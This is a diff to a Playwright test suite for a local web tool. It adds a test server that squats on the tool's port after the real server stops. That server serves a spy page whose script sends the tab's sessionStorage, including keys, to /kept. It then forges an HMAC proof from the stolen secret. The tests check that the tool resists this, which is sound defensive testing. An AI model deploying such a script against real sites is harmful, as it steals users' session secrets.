@@ -5,6 +5,7 @@ all that is looked at in them.
 """
 
 import contextlib
+import hmac
 import io
 import json
 import os
@@ -15,7 +16,7 @@ from collections.abc import Callable, Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from threading import Thread
-from urllib.parse import urlsplit
+from urllib.parse import parse_qsl, urlsplit
 
 import pytest
 from axe_playwright_python.sync_playwright import Axe  # type: ignore[import-untyped]
@@ -283,8 +284,8 @@ class _Other(BaseHTTPRequestHandler):
 
 
 @contextlib.contextmanager
-def _somebody_else(port: int) -> Iterator[list[tuple[str, str]]]:
-    with ThreadingHTTPServer(("127.0.0.1", port), _Other) as server:
+def _somebody_else(port: int, who: type[_Other] = _Other) -> Iterator[list[tuple[str, str]]]:
+    with ThreadingHTTPServer(("127.0.0.1", port), who) as server:
         server.asked = []  # type: ignore[attr-defined]
         thread = Thread(target=server.serve_forever)
         thread.start()
@@ -321,7 +322,7 @@ def test_a_tab_takes_nothing_from_who_has_the_port_after_the_page(
         other.goto(page.url)
         _has_request(other, 1)
         other.close()
-        key = page.evaluate("sessionStorage.getItem('keys')").partition(" ")[0]
+        key = page.evaluate("sessionStorage.getItem('key')")
         found.kill()
         expect(over).to_contain_text("does not answer")
         with _somebody_else(port) as asked:
@@ -346,7 +347,7 @@ def _is_opened_anew_only_by_the_address(page: Page, project: Path, port: int) ->
         other.get_by_role("link", name="x", exact=True).click()
         _has_request(other, 1)
         page.reload()
-        expect(over).to_contain_text("has ended. Open it anew")
+        _has_request(page, 1)
         # No tab is left that has the keys.
         session = other.url
         other.goto("about:blank")
@@ -360,6 +361,68 @@ def _is_opened_anew_only_by_the_address(page: Page, project: Path, port: int) ->
         _has_request(other, 1)
         again.end()
         expect(other.locator("#over")).to_contain_text("The page has ended; nothing is lost.")
+
+
+class _Heir(_Other):
+    """Has the port after the page, knows all that a reloaded tab kept, and proves itself by it."""
+
+    def do_GET(self) -> None:
+        kept = getattr(self.server, "kept", [])
+        path, nonce = urlsplit(self.path), self.headers["Codingagent-Nonce"] or ""
+        if path.path == "/kept":
+            self.server.kept = parse_qsl(path.query)  # type: ignore[attr-defined]
+        self.server.asked.append((self.path, str(self.headers)))  # type: ignore[attr-defined]
+        self.send_response(200)
+        secret = next((value.rpartition(" ")[2] for _, value in kept), "")
+        proof = hmac.digest(secret.encode(), nonce.encode(), "sha256").hex()
+        self.send_header("Codingagent-Proof", proof)
+        is_script = path.path.endswith(".js")
+        self.send_header("Content-Type", "text/javascript" if is_script else "text/html")
+        self.send_header("Cache-Control", "max-age=9999")
+        self.send_header("Cross-Origin-Opener-Policy", "same-origin")
+        self.end_headers()
+        spy = (
+            b"<b id=foreign>x</b><script src=/static/page.js></script><script>"
+            b"document.title = `${opener}`;"
+            b"fetch('/kept?' + new URLSearchParams({...sessionStorage}))</script>"
+        )
+        self.wfile.write(b"document.documentElement.id = 'foreign'" if is_script else spy)
+
+    do_POST = do_GET  # noqa: N815  # as http.server calls it
+
+
+def test_a_reloaded_tab_gives_who_has_the_port_then_no_hold_on_others(
+    page: Page, project: Path
+) -> None:
+    """Nor what the tab kept, nor the tab that opened it, nor a script for a later page on that port."""
+    with served(project) as found:
+        port = int(urlsplit(found.address).port or 0)
+        begin(page, found, "x")
+        page.get_by_role("link", name="codingagent", exact=True).click()
+        with page.context.expect_page() as opened:
+            page.get_by_role("link", name="x", exact=True).click(button="middle")
+        other = opened.value
+        _has_request(other, 1)
+        found.kill()
+    with _somebody_else(port, _Heir) as asked:
+        other.reload()
+        expect(other.locator("#foreign").first).to_be_attached()
+        assert other.title() == "null"
+        page.get_by_role("link", name="x", exact=True).click()
+        expect(page.locator("#over")).to_contain_text("has ended. Open it anew")
+        assert page.locator("#foreign").count() == 0
+        assert {"/kept", "/static/page.js"} <= {path.partition("?")[0] for path, _ in asked}
+    with served(project, f"--port={port}") as again:
+        page.goto(again.address)
+        page.get_by_role("link", name="x", exact=True).click()
+        _has_request(page, 1)
+        assert page.locator("#foreign").count() == 0
+        other.goto(page.url)
+        _has_request(other, 1)
+        # A tab that was open before has a key of the earlier page.
+        other.evaluate("sessionStorage.setItem('key', 'x')")
+        other.reload()
+        expect(other.locator("#over")).to_contain_text("started again, with other keys")
 
 
 def _runs_no_script_that_comes_later(page: Page) -> None:
